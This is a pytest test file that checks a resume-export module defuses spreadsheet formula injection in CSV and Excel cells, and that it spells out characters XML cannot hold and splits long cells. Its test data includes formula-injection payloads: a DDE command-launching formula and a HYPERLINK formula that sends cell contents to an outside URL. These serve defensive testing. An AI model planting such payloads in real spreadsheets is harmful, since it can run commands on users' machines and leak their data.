"""Text in cells: no spreadsheet takes any of it for a formula, and none of it is lost."""

import csv
import io
import re
import unicodedata
from collections.abc import Iterable
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from each import each
from resume_visibility.exports import defusing
from resume_visibility.exports.defusing import MAX_CELL_CHARS, defuse, split_for_workbook

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\t",
    " =1",
    "\u3000＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "\x01=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    '=HYPERLINK("http://example.com?x="&A1,"me")',
]
BEGINS = re.compile(r"[=+\-@\t\r\n]")


def seen(text: str) -> str:
    """A text as a careless reader takes it: folded, without spaces and signs that are not seen, and quotation marks."""
    shown = [
        one for one in text if unicodedata.category(one) not in ("Cc", "Cf", "Zs", "Zl", "Zp") and one != '"'
    ]
    return unicodedata.normalize("NFKC", "".join(shown)).replace("−", "-")


def harmless(cell: str) -> bool:
    """Whether a cell begins with nothing that a spreadsheet would evaluate."""
    return not BEGINS.match(cell) and not BEGINS.match(seen(cell))


def restored(cell: str) -> str:
    """The text that was defused: one apostrophe fewer wherever there is one before a formula."""
    formula = f"[{defusing._UNSEEN_SIGNS}]*[{defusing._FORMULA_SIGNS}]"
    first = f"^'(?='*(?:[\\t\\n\\r]|[{defusing._UNSEEN_SIGNS}\\t\\n\\r]*[{defusing._FORMULA_SIGNS}]))"
    return re.sub(f"{first}|(?<=[{defusing._CELL_ENDS}])'(?='*{formula})", "", cell)


TEXTS = st.text(
    st.one_of(st.sampled_from("=+-@＝＋－＠\t\r\n '\",;|_x0041"), st.characters(codec="utf-8")), max_size=30
)


@each("text", FORMULAS)
def test_EXPORT_1_a_formula_gets_an_apostrophe(text: str) -> None:
    """Whatever begins as a formula does, behind spaces, controls and in full width too, gets an apostrophe in front."""
    assert defuse(text).startswith("'")


@each(
    "text",
    [
        "",
        "负责清结算",
        "C++",
        "a-b",
        "a=b",
        "138 0013 8000",
        "'a",
        "me@example.com",
        "1,2",
        "2018-03 – 2022-08",
    ],
)
def test_EXPORT_1_what_is_no_formula_stays(text: str) -> None:
    """A text in which nothing begins a formula is written as it is."""
    assert defuse(text) == text


def test_EXPORT_1_a_number_stays_readable() -> None:
    """A telephone number in E.164 is read behind its apostrophe."""
    assert defuse("+8613800138000") == "'+8613800138000"


@each("sign", "=+-@＝＋－＠")
def test_EXPORT_1_no_sign_that_ends_a_cell_lets_a_formula_begin(sign: str) -> None:
    """Where a reader takes another sign than the comma for the end of a cell, the next one begins no formula either."""
    for end in "\t\n\r,;|":
        assert defuse(f"a{end} {sign}1") == f"a{end}' {sign}1"


IGNORABLE = (
    *(0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, *range(0x180B, 0x1810), *range(0x200B, 0x2010)),
    *(*range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x3164, *range(0xFE00, 0xFE10), 0xFEFF, 0xFFA0),
    *(*range(0xFFF0, 0xFFF9), *range(0x1BCA0, 0x1BCA4), *range(0x1D173, 0x1D17B), *range(0xE0000, 0xE1000)),
)
"""The signs without a shape, as Unicode lists them (Default_Ignorable_Code_Point)."""

BLANK = [chr(0x2800), *(chr(point) for point in IGNORABLE)]
ANY = [chr(point) for point in range(0x110000) if not 0xD800 <= point < 0xE000]


def undefused(texts: Iterable[str]) -> list[str]:
    """Those texts that get no apostrophe in front."""
    return [ascii(text) for text in texts if not defuse(text).startswith("'")]


def test_EXPORT_1_no_sign_without_a_shape_lets_a_formula_begin() -> None:
    """Behind every sign that is not seen, a formula gets its apostrophe, at the beginning and behind the end of a cell."""
    unseen = [sign for sign in ANY if unicodedata.category(sign) in ("Cc", "Cf", "Zs", "Zl", "Zp")]
    assert undefused(f"{sign}=1+1" for sign in (*unseen, *BLANK)) == []
    assert [ascii(sign) for sign in BLANK if defuse(f"a;{sign}=1") != f"a;'{sign}=1"] == []


@each("form", ["NFC", "NFD", "NFKC", "NFKD"])
def test_EXPORT_1_what_is_taken_apart_into_a_formula_begins_none(
    form: Literal["NFC", "NFD", "NFKC", "NFKD"],
) -> None:
    """A sign that any normal form of Unicode turns into the beginning of a formula gets an apostrophe, too."""
    apart = [sign for sign in ANY if unicodedata.normalize(form, sign)[0] in "=+-@−"]
    assert undefused(f"{sign}1" for sign in apart) == []


@given(TEXTS)
def test_EXPORT_1_no_text_is_a_formula_in_csv(text: str) -> None:
    """Any text, read back from CSV, is no formula, in whole or behind any sign that ends a cell, and is not lost."""
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([defuse(text)])
    [[cell]] = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert harmless(cell)
    assert all(not seen(piece) or not BEGINS.match(seen(piece)) for piece in re.split(r"[\t\n\r,;|]", cell))
    assert restored(cell) == text


@each(
    "text",
    ["'=1", "''=1", "a;'=1", "a;''=1", "\n'=1", "'\t=1", "\t'\t=1", "' '=1", "a;' =1", "a\n\n'-1", "';'=1"],
)
def test_EXPORT_1_an_apostrophe_of_the_writer_stays(text: str) -> None:
    """An apostrophe that the writer set before a formula stays where those that were added are taken away."""
    assert restored(defuse(text)) == text


def test_EXPORT_1_every_sign_is_known() -> None:
    """Each sign of Unicode that is a formula's in another shape, or is not seen before one, is defused."""
    for code in (*range(0xD800), *range(0xE000, 0x110000)):
        one = chr(code)
        if unicodedata.normalize("NFKC", one)[:1] in ("=", "+", "-", "@"):
            assert defuse(one) == f"'{one}", hex(code)
        elif unicodedata.category(one) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            assert defuse(f"{one}=").startswith("'"), hex(code)


def unspelled(text: str) -> str:
    """What Excel shows of a text in a workbook."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def read_back(text: str) -> tuple[object, str]:
    """A text as a workbook holds it, and of which kind its cell is."""
    book, file = Workbook(write_only=True), io.BytesIO()
    sheet = book.create_sheet("A")
    [piece] = split_for_workbook(text)
    cell = WriteOnlyCell(sheet, value=piece)
    cell.data_type = "s"
    sheet.append([cell])
    book.save(file)
    read = load_workbook(file)["A"]["A1"]
    return read.value, str(read.data_type)


@given(TEXTS.filter(bool))
def test_EXPORT_1_no_text_is_a_formula_in_a_workbook(text: str) -> None:
    """Any text, read back from a workbook, is text, and is not lost."""
    value, kind = read_back(text)
    assert kind != "f"
    assert isinstance(value, str)
    assert unspelled(value) == text


@pytest.mark.parametrize(
    "text", ["\x00", "\x0b", "\x1f", "\r\n", "\ufffe", "\ud800", "_x0041_", "_x000D__x000a_", "__x0000_"]
)
def test_signs_that_xml_cannot_hold_are_spelled(text: str) -> None:
    """What XML cannot hold is spelled as Excel spells it, and what looks so spelled is what Excel shows."""
    [spelled] = split_for_workbook(text)
    assert not re.search("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", spelled)
    assert unspelled(spelled) == text


@given(st.lists(st.tuples(TEXTS, st.integers(1, 20_000)), max_size=3))
def test_a_long_text_takes_several_cells(parts: list[tuple[str, int]]) -> None:
    """No piece is longer than a cell, in the counting of Excel, and together they are the text."""
    text = "".join((part * times)[:60_000] for part, times in parts)
    pieces = [*split_for_workbook(text)]
    assert all(len(piece.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS for piece in pieces)
    assert "".join(map(unspelled, pieces)) == text
    assert "" not in pieces[1:]


@pytest.mark.parametrize("sign", ["\x00", "\ud800", "_x0041_"])
def test_signs_are_spelled_in_every_piece_of_a_long_text(sign: str) -> None:
    """What XML cannot hold is spelled in the first cell of a text, in one between, and in the last."""
    text = f"{sign}{'负' * 32_000}" * 3 + sign
    pieces = [*split_for_workbook(text)]
    assert len(pieces) > 2
    assert not any(re.search("[\x00\ud800]", piece) for piece in pieces)
    assert "".join(map(unspelled, pieces)) == text


@pytest.mark.parametrize("sign", ["\x00", "\ud800", "_x0041_"])
def test_no_piece_is_too_long_where_every_sign_is_spelled(sign: str) -> None:
    """A sign that is spelled takes more of a cell than it is long: a cell that is too long would break the workbook."""
    text = sign * 12_000
    pieces = [*split_for_workbook(text)]
    assert max(map(len, pieces)) <= MAX_CELL_CHARS
    assert "".join(map(unspelled, pieces)) == text


def test_a_usual_text_takes_one_cell() -> None:
    """The longest text that a resume holds stays in one cell."""
    assert [*split_for_workbook("负" * 20_000)] == ["负" * 20_000]
